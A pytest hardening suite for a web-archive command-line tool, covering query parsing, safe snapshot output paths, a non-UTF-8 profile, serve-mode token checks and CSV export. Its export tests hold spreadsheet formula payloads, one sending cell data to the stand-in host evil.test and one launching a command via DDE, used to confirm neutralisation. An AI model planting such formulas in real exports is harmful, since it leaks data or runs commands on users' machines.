"""The CLI against careless and crafted input: queries that look like options or are huge,
URLs that do not parse, snapshot -o over files that matter, CSV formulas, a non-UTF-8 profile,
a token with public mode. Each on a real archive (WARC files and index) and the real command."""
from __future__ import annotations

import csv
import hashlib
import io
import json
import os
import subprocess
import sys

import pytest

from tests.browser.archive_fixture import DONGDA_URL, HOST, NTM_URL, build_archive, build_single_article
from tests.test_cli import assert_user_error, run


@pytest.fixture(scope="module")
def archive(tmp_path_factory):
    return build_archive(tmp_path_factory.mktemp("cli-hardening") / "data")


def digest(path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


# -- search ---------------------------------------------------------------------------------

def test_a_query_may_start_with_a_dash(archive):
    data = str(archive.data_dir)
    for argv in (["search", "--json", "--data", data, "--", "-dong da"],
                 ["search", "-dong da", "--json", "--data", data],
                 ["search", "--json", "-hanoi", "--data", data],
                 ["search", "--data", data, "--json", "--limit=5", "-dong"]):
        result = run(*argv)
        assert result.returncode == 0, (argv, result.stderr)
        json.loads(result.stdout)
    hits = json.loads(run("search", "-dong da", "--json", "--data", data).stdout)
    assert hits and hits[0]["url"] == DONGDA_URL
    assert_user_error(run("search", "--data", data))  # still: a query is required


def test_a_huge_query_gets_one_line(archive):
    result = run("search", "nong thon moi " * 2700, "--data", str(archive.data_dir))
    assert_user_error(result, "at most 500")
    result = run("search", " ".join(f"w{n}" for n in range(40)), "--data", str(archive.data_dir))
    assert_user_error(result, "40 words", "at most 32")


# -- snapshot -------------------------------------------------------------------------------

def test_snapshot_of_a_url_that_does_not_parse(archive):
    assert_user_error(run("snapshot", "http://[::1/", "--data", str(archive.data_dir)), "not a valid URL")


def test_snapshot_output_never_overwrites_without_force(archive, tmp_path):
    data = str(archive.data_dir)
    out = tmp_path / "page.html"
    assert run("snapshot", NTM_URL, "-o", str(out), "--data", data).returncode == 0
    first = out.read_bytes()
    assert "Xây dựng nông thôn mới".encode() in first
    mine = tmp_path / "mine.txt"
    mine.write_text("my notes", encoding="utf-8")
    assert_user_error(run("snapshot", NTM_URL, "-o", str(mine), "--data", data), "exists", "--force")
    assert mine.read_text(encoding="utf-8") == "my notes"
    assert run("snapshot", NTM_URL, "-o", str(mine), "--force", "--data", data).returncode == 0
    assert mine.read_bytes() == first
    assert_user_error(run("snapshot", NTM_URL, "-o", str(tmp_path), "--data", data), "directory")
    assert_user_error(run("snapshot", NTM_URL, "-o", str(tmp_path / "no" / "x.html"), "--data", data),
                      "not a directory")


def test_snapshot_output_never_goes_into_the_data_directory(archive, tmp_path):
    data = archive.data_dir
    warc = sorted(archive.warcs_dir.glob("*.warc.gz"))[0]
    kept = {path: digest(path) for path in (archive.index_path, warc)}
    link = tmp_path / "innocent.html"
    link.symlink_to(archive.index_path)
    for target in (archive.index_path, warc, archive.warcs_dir / "new.warc.gz", data / "notes.html", link):
        for force in ([], ["--force"]):
            result = run("snapshot", NTM_URL, "-o", str(target), *force, "--data", str(data))
            assert_user_error(result, "inside the data directory")
    assert {path: digest(path) for path in kept} == kept
    assert not (archive.warcs_dir / "new.warc.gz").exists() and not (data / "notes.html").exists()
    relative = run("snapshot", NTM_URL, "-o", "index.sqlite", "--force", "--data", ".", cwd=data)
    assert_user_error(relative, "inside the data directory")
    assert digest(archive.index_path) == kept[archive.index_path]


# -- export --------------------------------------------------------------------------------

FORMULAS = {"title": '=HYPERLINK("http://evil.test/?"&A1,"Bấm vào đây")', "author": "@SUM(1+1)",
            "body": "+cmd|' /C calc'!A0\n\nđoạn hai"}


def test_csv_export_neutralises_formulas_and_jsonl_is_untouched(tmp_path):
    url = HOST + "/vi/news/cong-thuc-1.html"
    article = {"url": url, "canonical": url, "published": "2019-03-14", "images": [], "attachments": [],
               **FORMULAS}
    built = build_single_article(tmp_path / "data", article, b"<html><body>x</body></html>")
    result = run("export", "--format", "csv", "--data", str(built.data_dir))
    assert result.returncode == 0, result.stderr
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert len(rows) == 1
    for field, value in FORMULAS.items():
        assert rows[0][field] == "'" + value, field
    assert rows[0]["url"] == url and rows[0]["images"] == "[]"
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert all(not cell.startswith(start) for cell in rows[0].values())
    record = json.loads(run("export", "--format", "jsonl", "--data", str(built.data_dir)).stdout)
    assert {field: record[field] for field in FORMULAS} == FORMULAS


def test_csv_cell_rule():
    from archive.export import csv_cell
    assert [csv_cell(v) for v in ("-1", "\t=1", "\r+1", "a=b", "", None, 3)] == ["'-1", "'\t=1", "'\r+1", "a=b", "", None, 3]


# -- crawl and serve -----------------------------------------------------------------------

def test_profile_that_is_not_utf8(tmp_path):
    profile = tmp_path / "mine.toml"
    profile.write_bytes('[[site]]\nid = "mine"\nname = "Yên Đông"\n'.encode("cp1258"))
    assert_user_error(run("crawl", "mine", "--profile", str(profile), "--data", str(tmp_path / "d")),
                      "UTF-8", str(profile))


def test_serve_refuses_a_token_with_public_mode(archive):
    data = str(archive.data_dir)
    assert_user_error(run("serve", "--token", "s3cret", "--public", "--port", "0", "--data", data),
                      "--token", "--public")
    env_token = {**os.environ, "PORTAL_ARCHIVE_TOKEN": "s3cret"}
    result = subprocess.run([sys.executable, "-m", "portal_crawler.cli", "serve", "--public", "--port", "0",
                             "--data", data], capture_output=True, text=True, env=env_token, timeout=120)
    assert_user_error(result, "PORTAL_ARCHIVE_TOKEN")
